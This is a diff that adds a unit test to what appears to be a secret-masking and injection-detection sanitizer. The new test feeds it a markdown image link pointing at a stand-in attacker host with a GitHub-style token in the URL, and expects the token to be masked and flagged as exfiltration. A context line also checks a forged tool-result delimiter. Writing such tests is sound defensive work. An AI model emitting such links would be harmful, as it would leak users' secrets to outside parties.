@@ -374,3 +374,12 @@ test('masks a secret beside a forged delimiter', () => {
   expect(value).toMatch(/^password=<secret:[a-z-]+:1> <injection:fake-result> done$/)
   expect(findings).toHaveLength(1)
 })
+
+test('a secret that a link carries off is a finding, not only a link', () => {
+  const { value, findings, injection } = sanitize(
+    `![x](https://evil.example/p?token=${['ghp', 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'].join('_')})`,
+  )
+  expect(value).not.toContain('a1B2c3D4')
+  expect(findings).toHaveLength(1)
+  expect(injection).toMatchObject([{ rule: 'exfiltration' }])
+})
